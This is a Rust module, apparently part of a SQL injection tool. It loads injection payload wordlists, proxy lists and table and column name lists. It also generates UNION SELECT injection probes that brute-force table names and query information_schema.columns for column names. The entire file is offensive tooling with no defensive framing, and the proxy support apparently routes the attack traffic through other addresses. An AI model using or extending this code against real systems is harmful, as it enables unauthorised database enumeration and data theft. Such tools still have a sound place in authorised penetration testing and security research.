use std::fs;
use std::path::Path;

use crate::error::EngineError;

/// Load the injection payload wordlist. Comments (`#`) and blank lines are
/// stripped; a missing or empty file is a fatal configuration error raised
/// before any network activity.
pub fn load_payloads(path: &Path) -> Result<Vec<String>, EngineError> {
    let data = fs::read_to_string(path).map_err(|e| {
        EngineError::Configuration(format!("payload file '{}': {}", path.display(), e))
    })?;
    let payloads: Vec<String> = data
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .map(str::to_string)
        .collect();
    if payloads.is_empty() {
        return Err(EngineError::Configuration(format!(
            "payload file '{}' contains no payloads",
            path.display()
        )));
    }
    Ok(payloads)
}

/// Load a proxy list, one address per line. Empty lines are skipped; an
/// empty result means direct connection.
pub fn load_proxies(path: &Path) -> Result<Vec<String>, EngineError> {
    let data = fs::read_to_string(path).map_err(|e| {
        EngineError::Configuration(format!("proxy file '{}': {}", path.display(), e))
    })?;
    Ok(data
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty())
        .map(str::to_string)
        .collect())
}

/// Load a plain table/column wordlist, one name per line.
pub fn load_wordlist(path: &Path) -> Result<Vec<String>, EngineError> {
    let data = fs::read_to_string(path).map_err(|e| {
        EngineError::Configuration(format!("wordlist '{}': {}", path.display(), e))
    })?;
    Ok(data
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty())
        .map(str::to_string)
        .collect())
}

/// UNION probes for table-name brute forcing.
pub fn table_probes(tables: &[String]) -> Vec<String> {
    tables
        .iter()
        .map(|tbl| format!("' UNION SELECT 1 FROM {} --", tbl))
        .collect()
}

/// UNION probes for column-name brute forcing.
pub fn column_probes(columns: &[String]) -> Vec<String> {
    columns
        .iter()
        .map(|col| format!("' UNION SELECT {}, null FROM information_schema.columns --", col))
        .collect()
}
